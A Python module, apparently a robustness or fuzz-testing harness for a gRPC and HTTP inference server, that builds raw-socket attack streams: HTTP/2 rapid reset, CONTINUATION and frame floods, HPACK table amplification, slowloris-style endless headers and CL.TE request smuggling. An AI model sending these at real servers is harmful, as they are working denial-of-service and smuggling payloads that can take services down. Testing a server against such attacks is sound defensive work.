"""Abuse of HTTP/2 and HTTP/1.1 over raw sockets: resets, floods of frames, and headers without end."""

import contextlib
import socket
import struct
from collections.abc import Callable, Iterator, Mapping

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PUSH, _PING, _GOAWAY, _WINDOW, _CONTINUATION = range(10)
_END_STREAM, _END_HEADERS = 1, 4
_WAIT_S = 3.0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + _length(len(name)) + name + _length(len(value)) + value


def _length(number: int) -> bytes:
    """An integer of HPACK with a prefix of 7 bits."""
    if number < 127:
        return bytes((number,))
    rest, out = number - 127, bytearray(b"\x7f")
    while rest >= 128:
        out.append(rest % 128 | 128)
        rest //= 128
    return bytes((*out, rest))


def _call(method: str = "/weft.v1.Inference/ListModels") -> bytes:
    """The header block of a gRPC call."""
    head = b"\x83\x86" + b"\x04" + _length(len(method)) + method.encode()
    return head + _literal(b"content-type", b"application/grpc") + _literal(b"te", b"trailers")


def _begin() -> bytes:
    return PREFACE + _frame(_SETTINGS, 0, 0)


def _rapid_reset(count: int) -> Iterator[bytes]:
    yield _begin()
    for i in range(count):
        stream = 2 * i + 1
        yield _frame(_HEADERS, _END_HEADERS, stream, _call()) + _frame(_RESET, 0, stream, struct.pack(">I", 8))


def _continuations(count: int) -> Iterator[bytes]:
    yield _begin() + _frame(_HEADERS, 0, 1, _call())
    for i in range(count):
        yield _frame(_CONTINUATION, 0, 1, _literal(b"x-%d" % i, b"y" * 8000))


def _empty_continuations(count: int) -> Iterator[bytes]:
    yield _begin() + _frame(_HEADERS, 0, 1, _call())
    yield from (_frame(_CONTINUATION, 0, 1) for _ in range(count))


def _large_metadata(count: int) -> Iterator[bytes]:
    yield _begin()
    for i in range(min(count, 50)):
        block = _call() + _literal(b"x-large", b"y" * 15_000)
        yield _frame(_HEADERS, _END_HEADERS, 2 * i + 1, block[:16_384])


def _frames(kind: int, payload: bytes, stream: int = 0) -> Callable[[int], Iterator[bytes]]:
    def flood(count: int) -> Iterator[bytes]:
        yield _begin()
        yield from (_frame(kind, 0, stream, payload) for _ in range(count))

    return flood


def _open_streams(count: int) -> Iterator[bytes]:
    """Calls that never send their message."""
    yield _begin()
    for i in range(count):
        yield _frame(_HEADERS, _END_HEADERS, 2 * i + 1, _call("/weft.v1.Inference/Generate"))


def _indexed(count: int) -> Iterator[bytes]:
    """A header that fills the dynamic table, referred to again and again."""
    yield _begin()
    large = b"\x40" + _length(5) + b"x-big" + _length(3900) + b"y" * 3900
    yield _frame(_HEADERS, _END_HEADERS, 1, _call() + large)
    for i in range(1, count):
        yield _frame(_HEADERS, _END_HEADERS, 2 * i + 1, _call() + b"\xbe" * 4000)


def _slow_http(count: int) -> Iterator[bytes]:
    yield b"POST /v1/completions HTTP/1.1\r\nhost: x\r\n"
    yield from (b"x-%d: y\r\n" % i for i in range(count))


def _smuggled(count: int) -> Iterator[bytes]:
    head = b"POST /v1/completions HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n"
    yield from (head + b"0\r\n\r\nGET /v1/models HTTP/1.1\r\n\r\n" for _ in range(min(count, 20)))


def _pipelined(count: int) -> Iterator[bytes]:
    yield from (b"GET /health HTTP/1.1\r\nhost: x\r\n\r\n" for _ in range(count))


def _chunks(count: int) -> Iterator[bytes]:
    yield b"POST /v1/completions HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
    yield from (b"1;" + b"x" * 4000 + b"\r\ny\r\n" for _ in range(count))


GRPC: Mapping[str, Callable[[int], Iterator[bytes]]] = {
    "rapid reset": _rapid_reset,
    "continuations": _continuations,
    "empty continuations": _empty_continuations,
    "large metadata": _large_metadata,
    "open streams": _open_streams,
    "indexed headers": _indexed,
    "pings": _frames(_PING, b"12345678"),
    "settings": _frames(_SETTINGS, struct.pack(">HI", 4, 65535)),
    "priorities": _frames(_PRIORITY, b"\x00\x00\x00\x00\x10", 1),
    "window of zero": _frames(_WINDOW, b"\x00\x00\x00\x00"),
    "data of no stream": _frames(_DATA, b"x" * 1000, 7),
    "pushes": _frames(_PUSH, b"\x00\x00\x00\x02" + _call(), 1),
    "unknown frames": lambda count: (_begin() if i == 0 else _frame(77, 255, 9, b"x" * 100) for i in range(count)),
    "noise": lambda count: (b"\xff" * 1000 for _ in range(count)),
}
HTTP: Mapping[str, Callable[[int], Iterator[bytes]]] = {
    "headers without end": _slow_http,
    "smuggled requests": _smuggled,
    "pipelined requests": _pipelined,
    "chunks with extensions": _chunks,
    "noise": lambda count: (b"\xff" * 1000 for _ in range(count)),
}


def abuse(address: tuple[str, int], pieces: Iterator[bytes]) -> int:
    """Sends pieces until all are sent or the peer ends the connection. -> the bytes that were sent."""
    sent = 0
    with contextlib.suppress(OSError), socket.create_connection(address, timeout=_WAIT_S) as connection:
        for piece in pieces:
            connection.sendall(piece)
            sent += len(piece)
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while connection.recv(1 << 16):  # What it answers is read, so that it goes on.
                    pass
            connection.settimeout(_WAIT_S)
    return sent
